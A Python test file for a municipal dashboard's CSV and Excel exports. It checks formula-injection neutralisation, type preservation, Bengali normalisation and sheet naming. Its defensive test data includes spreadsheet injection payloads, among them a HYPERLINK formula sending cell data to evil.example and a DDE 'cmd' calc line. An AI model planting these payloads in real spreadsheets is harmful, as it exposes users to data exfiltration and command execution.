"""The dashboard's CSV and Excel downloads: formula injection neutralised, types kept, Bengali.

Excel files are read back with openpyxl and checked cell by cell (value and stored type);
CSV files are read back with the csv module after checking the UTF-8 byte-order mark.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
from triage_fixtures import add_interaction

from hub.exports import (
    DANGEROUS_PREFIXES,
    EXCEL_MAX_CELL_CHARS,
    Table,
    league_table,
    neutralise_cell,
    sheet_name,
    tables_from_metrics,
    tickets_behind_table,
    tickets_table,
    to_csv,
    to_excel,
)
from hub.metrics import (
    DepartmentRow,
    MetricsFilters,
    MetricsService,
    PublishingRow,
    TicketsBehind,
    WardRow,
    WeekRow,
)
from hub.tickets.board import BoardRow

BOM = b"\xef\xbb\xbf"
WATER_BN = "জল সরবরাহ"
# Bengali "রোড" (road) with its o-sign typed as two signs (ে + া), as some keyboards send it.
DECOMPOSED = "র\u09c7\u09beড"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "   =1+1",
    "\n@SUM(1)",
    "\u00a0-1",
    "\u200b=1+1",
    "\ufeff+1",
    "\x00=1+1",
]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM) :].decode("utf-8"), newline="")))


def read_excel(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def sheet_cells(sheet) -> list[list[tuple[object, str]]]:
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_cell_quotes_every_dangerous_start(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-5, -2.5, 0, 3, 1.5, None, True, date(2026, 11, 16), datetime(2026, 11, 16, 9, 30)],
)
def test_neutralise_cell_leaves_non_text_alone(value):
    assert neutralise_cell(value) is value


@pytest.mark.parametrize("text", ["Water Supply", WATER_BN, "12 min", "", " ward 12", "a=b", "'"])
def test_neutralise_cell_leaves_harmless_text_alone(text):
    assert neutralise_cell(text) == text


def test_every_listed_prefix_is_tested():
    assert {text.lstrip()[0] for text in HOSTILE} >= set(DANGEROUS_PREFIXES) - {"\t", "\r"}
    assert {"\t", "\r"} <= {text[0] for text in HOSTILE}


def hostile_table() -> Table:
    return Table(
        "Hostile",
        ("Text", "Number"),
        [(text, -(i + 1)) for i, text in enumerate(HOSTILE)] + [("plain", -1.5)],
    )


def test_csv_neutralises_text_and_keeps_numbers():
    rows = read_csv(to_csv(hostile_table()))
    assert rows[0] == ["Text", "Number"]
    for (text, number), original in zip(rows[1:], HOSTILE, strict=False):
        # The quote comes first, before any whitespace, so nothing a reader trims exposes it.
        assert text == "'" + original
        # A negative number is written as a number, with its minus sign, unquoted.
        assert number.startswith("-")
        assert int(number) < 0
    assert rows[-1] == ["plain", "-1.5"]


def test_csv_quotes_separators_and_newlines():
    table = Table("Q", ("Text",), [('comma, "quote"\nnewline',)])
    data = to_csv(table)
    assert b'"comma, ""quote""\nnewline"' in data
    assert read_csv(data)[1] == ['comma, "quote"\nnewline']


def test_excel_neutralises_and_stores_text_as_strings():
    book = read_excel(to_excel([hostile_table()]))
    sheet = book["Hostile"]
    cells = sheet_cells(sheet)
    assert cells[0] == [("Text", "s"), ("Number", "s")]
    for (text, number), original in zip(cells[1:], HOSTILE, strict=False):
        # A carriage return is stored as Excel's line break (XML would turn it into one anyway);
        # a NUL cannot be stored in XML and is dropped, the quote stays in front.
        assert text == ("'" + original.replace("\r", "\n").replace("\x00", ""), "s")
        assert number[1] == "n"
        assert isinstance(number[0], int)
        assert number[0] < 0
    assert cells[-1] == [("plain", "s"), (-1.5, "n")]
    # Not a single formula anywhere in the file.
    assert all(t != "f" for row in cells for _, t in row)


def test_excel_header_is_bold_frozen_and_columns_sized():
    table = Table("Sized", ("Department", "Tickets"), [("Sewerage & Drainage " * 2, 3)])
    sheet = read_excel(to_excel([table]))["Sized"]
    assert sheet["A1"].font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B2"
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["B"].width >= 8


def test_bengali_round_trips_in_nfc():
    assert unicodedata.normalize("NFC", DECOMPOSED) != DECOMPOSED
    table = Table("বাংলা", ("বিভাগ", "Tickets"), [(WATER_BN, 4), (DECOMPOSED, 1)])
    expected = unicodedata.normalize("NFC", DECOMPOSED)
    rows = read_csv(to_csv(table))
    assert rows == [["বিভাগ", "Tickets"], [WATER_BN, "4"], [expected, "1"]]
    sheet = read_excel(to_excel([table]))["বাংলা"]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["বিভাগ", "Tickets"],
        [WATER_BN, 4],
        [expected, 1],
    ]


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Department league 2026-11-16 to 2026-11-22", "Department league 2026-11-16 to"),
        ("Wards [top 20]: a/b\\c*d?e", "Wards top 20 a b c d e"),
        ("'quoted'", "quoted"),
        ("[]:*?/\\", "Sheet"),
        ("", "Sheet"),
        ("History", "History table"),
    ],
)
def test_sheet_names_are_valid(title, expected):
    name = sheet_name(title)
    assert name == expected
    assert len(name) <= 31
    assert not set(name) & set("[]:*?/\\")


def test_excel_sheet_names_long_forbidden_and_repeated():
    long = "A title that is far longer than thirty-one characters"
    tables = [
        Table(long, ("A",), [("x",)]),
        Table(long, ("A",), [("y",)]),
        Table("Backlog: by age [now]?", ("A",), [("z",)]),
    ]
    book = read_excel(to_excel(tables))
    names = book.sheetnames
    assert names == [
        "A title that is far longer than",
        "A title that is far longer (2)",
        "Backlog by age now",
    ]
    assert all(len(name) <= 31 for name in names)
    assert book[names[1]]["A2"].value == "y"


def test_empty_tables_have_their_header_only():
    table = Table("Nothing", ("Ward", "Tickets"), [])
    assert read_csv(to_csv(table)) == [["Ward", "Tickets"]]
    sheet = read_excel(to_excel([table]))["Nothing"]
    assert sheet_cells(sheet) == [[("Ward", "s"), ("Tickets", "s")]]
    # No tables at all still makes a valid workbook.
    assert read_excel(to_excel([])).sheetnames == ["Empty"]


def test_excel_drops_control_characters_and_cuts_long_text():
    table = Table("Odd", ("Text",), [("bell\x07 and nul\x00",), ("x" * 40000,)])
    sheet = read_excel(to_excel([table]))["Odd"]
    assert sheet["A2"].value == "bell and nul"
    assert len(sheet["A3"].value) == EXCEL_MAX_CELL_CHARS
    assert sheet["A3"].value.endswith("…")


def test_dates_and_aware_times_are_written_in_kolkata():
    # 19:00 UTC is 00:30 the next day in Kolkata.
    table = Table(
        "Times",
        ("Opened (IST)", "Week"),
        [(datetime(2026, 11, 15, 19, 0, tzinfo=UTC), date(2026, 11, 16))],
    )
    assert read_csv(to_csv(table))[1] == ["2026-11-16 00:30", "2026-11-16"]
    sheet = read_excel(to_excel([table]))["Times"]
    assert sheet["A2"].value == datetime(2026, 11, 16, 0, 30)
    assert sheet["A2"].is_date


def test_table_refuses_rows_of_the_wrong_width():
    with pytest.raises(ValueError, match="row 1 has 1 cells for 2 columns"):
        Table("Bad", ("A", "B"), [("only one",)])


def league_row(**changes) -> DepartmentRow:
    base = dict(
        department_code="WATER",
        department_name="Water Supply",
        first_response_target_hours=4,
        resolution_target_hours=48,
        tickets=6,
        answered=4,
        waiting_first_response=2,
        oldest_waiting_minutes=360.0,
        first_response_median=150.0,
        first_response_p90=264.0,
        first_response_met=3,
        first_response_missed=2,
        first_response_within_target=0.6,
        resolved=2,
        resolution_median=1200.0,
        resolution_p90=1680.0,
        resolution_met=2,
        resolution_missed=1,
        resolution_within_target=2 / 3,
        open=4,
        oldest_open_minutes=4320.0,
        escalations=2,
        reopened=1,
        reopen_rate=1 / 6,
        acknowledgement_met=3,
        acknowledgement_missed=1,
        acknowledged_within_deadline=0.75,
    )
    return DepartmentRow(**{**base, **changes})


def test_league_table_has_human_durations_and_minutes():
    table = league_table(
        [league_row(), league_row(department_code=None, department_name="IT queue", tickets=0,
                                  first_response_median=None, first_response_within_target=None)]
    )  # fmt: skip
    row = dict(zip(table.columns, table.rows[0], strict=True))
    assert row["Department"] == "Water Supply"
    assert row["First response median"] == "2 h 30 min"
    assert row["First response median (min)"] == 150.0
    assert row["Oldest open"] == "3 d 00 h"
    assert row["First response within target (%)"] == 60.0
    assert row["Resolution within target (%)"] == 66.7
    queue = dict(zip(table.columns, table.rows[1], strict=True))
    assert queue["Department code"] == ""
    # Nothing decided is empty, never 0 %.
    assert queue["First response within target (%)"] is None
    assert queue["First response median"] == "—"
    assert queue["First response median (min)"] is None
    sheet = read_excel(to_excel([table]))["Department league"]
    header = [c.value for c in sheet[1]]
    minutes = header.index("First response median (min)") + 1
    assert sheet.cell(row=2, column=minutes).value == 150
    assert sheet.cell(row=2, column=minutes).data_type == "n"


def test_tables_from_metrics_all_kinds():
    ticket = BoardRow(
        id=1,
        reference="KMC-2026-000001",
        platform="facebook",
        department_code="WATER",
        status="new",
        ward=12,
        category="complaint",
        urgent=False,
        opened_at=datetime(2026, 11, 15, 19, 0, tzinfo=UTC),
        text='=HYPERLINK("http://evil.example")',
        author_name="@attacker",
        minutes_left=-30,
        target_state="breached",
        escalated=True,
        escalation_reason=None,
        hidden=False,
    )
    publishing = PublishingRow(
        "WATER", "Water Supply", 7, 3, 7 / 3, 2, 1, 0.5, 120.0, 1176.0, 3, 0.5,
        (("photos_unsuitable", 2), ("off_topic", 1)),
    )  # fmt: skip
    tables = tables_from_metrics(
        league=[league_row()],
        trend=[WeekRow(date(2026, 11, 16), "2026-W47", 8, 5, 180.0)],
        backlog=[],
        wards=[WardRow(None, 2, 0, None, None, 2, 0, None)],
        publishing=[publishing],
        tickets=[ticket],
        period="2026-11-16 to 2026-11-22",
    )
    assert [t.title for t in tables] == [
        "Department league 2026-11-16 to 2026-11-22",
        "Weekly trend 2026-11-16 to 2026-11-22",
        "Backlog by age (now)",
        "Wards 2026-11-16 to 2026-11-22",
        "Publishing 2026-11-16 to 2026-11-22",
        "Tickets 2026-11-16 to 2026-11-22",
    ]
    assert tables[1].rows == [("2026-W47", date(2026, 11, 16), 8, 5, "3 h 00 min", 180.0)]
    assert tables[2].rows == []
    assert tables[3].rows[0][0] is None
    # Reasons by their labels where known, by code otherwise.
    assert tables[4].rows[0][-2] == "Photos unsuitable: 2; off_topic: 1"
    assert tables[4].rows[0][-1] == 0, "notices to subscribers"
    tickets = dict(zip(tables[5].columns, tables[5].rows[0], strict=True))
    assert tickets["Opened (IST)"] == datetime(2026, 11, 16, 0, 30)
    assert tickets["Minutes left to target"] == -30
    book = read_excel(to_excel(tables))
    assert len(book.sheetnames) == 6
    sheet = book[book.sheetnames[5]]
    header = [c.value for c in sheet[1]]
    values = {h: sheet.cell(row=2, column=i + 1) for i, h in enumerate(header)}
    assert values["Text"].value == "'" + ticket.text
    assert values["Citizen"].value == "'@attacker"
    assert (values["Minutes left to target"].value, values["Minutes left to target"].data_type) == (
        -30,
        "n",
    )
    assert values["Escalated"].value == "yes"
    csv_rows = read_csv(to_csv(tables[5]))
    assert csv_rows[1][csv_rows[0].index("Text")] == "'" + ticket.text


def test_tickets_table_in_another_zone():
    row = BoardRow(1, "R", "x", None, "new", None, "question", True,
                   datetime(2026, 11, 15, 19, 0, tzinfo=UTC), "t", "a", None, "ok", False, None,
                   False)  # fmt: skip
    table = tickets_table([row], zone="UTC")
    assert "Opened (UTC)" in table.columns
    assert table.rows[0][7] == datetime(2026, 11, 15, 19, 0)


def test_real_metrics_results_export(hub, actors):
    """The service's own results (overview, distribution, tickets behind) go through unchanged."""
    now = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
    metrics = MetricsService(hub.store, hub.audit, clock=lambda: now)
    interaction = add_interaction(
        hub, '=HYPERLINK("http://evil.example","জল নেই")', created_at=now - timedelta(hours=6)
    )
    with hub.store.transaction() as cur:
        cur.execute(
            "INSERT INTO tickets (reference, interaction_id, platform, citizen_key,"
            " department_code, status, ward, category, urgent, routing_explanation,"
            " routing_confidence, opened_at, created_at, updated_at)"
            " VALUES ('KMC-2026-000001', ?, 'facebook', 'facebook:c', 'WATER', 'new', 12,"
            " 'complaint', FALSE, 'test', 1.0, ?, ?, ?)",
            [interaction, now - timedelta(hours=6), now - timedelta(hours=6), now],
        )
    filters = MetricsFilters(start=datetime(2026, 11, 16, tzinfo=UTC), end=now)
    commissioner = actors["commissioner"]
    behind = metrics.tickets_behind(commissioner, filters, "first_response_missed")
    tables = tables_from_metrics(
        overview=metrics.overview(commissioner, filters),
        distribution=metrics.response_time_distribution(commissioner, filters),
        tickets=behind,
    )
    overview, distribution, tickets = tables
    row = dict(zip(overview.columns, overview.rows[0], strict=True))
    assert (row["Tickets"], row["First response missed"], row["Oldest waiting"]) == (
        1,
        1,
        "6 h 00 min",
    )
    assert row["First response within target (%)"] == 0.0
    assert distribution.rows[-1] == ("still waiting", None, 1)
    assert tickets.title == "First response target missed"
    ticket = dict(zip(tickets.columns, tickets.rows[0], strict=True))
    assert ticket["Opened (IST)"] == datetime(2026, 11, 20, 11, 30)
    assert (ticket["Age"], ticket["Age (min)"]) == ("6 h 00 min", 360.0)
    sheet = read_excel(to_excel(tables))[sheet_name(tickets.title)]
    header = [c.value for c in sheet[1]]
    text = sheet.cell(row=2, column=header.index("Text") + 1)
    assert (text.value, text.data_type) == ("'" + behind.rows[0].text, "s")


def test_a_cut_list_says_so_in_its_title():
    behind = TicketsBehind("open", [], 431)
    assert tickets_behind_table(behind).title == "Open now (0 of 431)"
